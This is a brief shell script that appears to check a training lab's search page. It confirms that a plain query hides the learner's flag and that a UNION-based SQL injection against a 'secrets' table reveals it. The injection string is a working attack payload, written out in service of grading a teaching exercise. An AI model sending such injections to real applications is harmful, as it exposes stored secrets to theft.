#!/bin/sh
# Walks the course's own way: a UNION in the search must show this learner's flag, and the plain search must not.
page() { curl --silent --fail --max-time 5 --get --data-urlencode "q=$1" http://10.10.10.20/search; }
page lamp | grep --quiet --fixed-strings "$LAB_FLAG" && { echo "the flag lies open"; exit 1; }
page "zzz' UNION SELECT name, value, 0 FROM secrets --" | grep --quiet --fixed-strings "$LAB_FLAG" || { echo "the injection shows no flag"; exit 1; }
